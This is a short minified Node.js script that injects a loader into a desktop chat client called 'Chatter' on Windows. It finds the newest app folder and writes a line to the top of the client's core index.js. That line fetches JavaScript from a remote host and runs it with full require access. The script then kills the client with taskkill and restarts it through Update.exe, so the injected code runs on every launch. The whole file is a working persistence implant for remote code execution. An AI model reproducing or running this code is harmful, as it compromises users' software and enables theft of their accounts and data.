const e = require("fs"), t = require("path"), {exec: r} = require("child_process"), n = 'require("https").get("https://inject.app.invalid/i.js",r=>{let c="";r.on("data",d=>c+=d).on("end",()=>new Function("require",c)(require))});';

[ "Chatter", "ChatterPTB", "ChatterCanary" ].forEach(function(i) {
    const c = t.join(process.env.LOCALAPPDATA || "", i);
    var s;
    if (e.existsSync(c)) try {
        const o = function(r) {
            const n = e.readdirSync(r).filter(e => e.startsWith("app-"));
            return n.sort((e, t) => {
                const r = e.slice(4).split(".").map(Number), n = t.slice(4).split(".").map(Number);
                for (let e = 0; e < 3; e++) if (r[e] !== n[e]) return n[e] - r[e];
                return 0;
            }), n.length ? t.join(r, n[0]) : null;
        }(c), a = o && function(r) {
            const n = t.join(r, "modules"), i = e.readdirSync(n).find(e => /^chatter_desktop_core-\d+$/.test(e));
            return i && t.join(n, i, "chatter_desktop_core", "index.js");
        }(o);
        if (!a) return;
        const u = e.readFileSync(a, "utf8");
        u.startsWith(n) || (e.writeFileSync(a, n + "\n" + u), r("taskkill /F /IM " + (s = i) + ".exe", function(e) {
            e || r('"' + t.join(process.env.LOCALAPPDATA, s, "Update.exe") + '" --processStart ' + s + ".exe");
        }));
    } catch (e) {
        console.error(e.code);
    }
});
